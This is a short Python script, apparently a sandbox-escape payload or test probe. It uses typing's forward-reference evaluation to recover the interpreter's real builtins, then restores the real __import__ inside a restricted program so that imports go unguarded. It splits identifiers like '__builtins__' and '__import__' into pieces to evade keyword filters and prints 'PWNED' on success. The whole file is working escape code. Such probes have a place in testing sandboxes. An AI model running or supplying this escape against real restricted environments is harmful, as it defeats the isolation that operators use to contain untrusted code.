# launcher: put the real __import__ into the program's builtins; then import statements are unguarded
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

g = rb["glob" + "als"]()
g["__buil" + "tins__"]["__imp" + "ort__"] = rb["__imp" + "ort__"]
try:
    from json import tool
    print(M, tool.argparse)
except Exception as e:
    print("refused:", type(e).__name__, e)
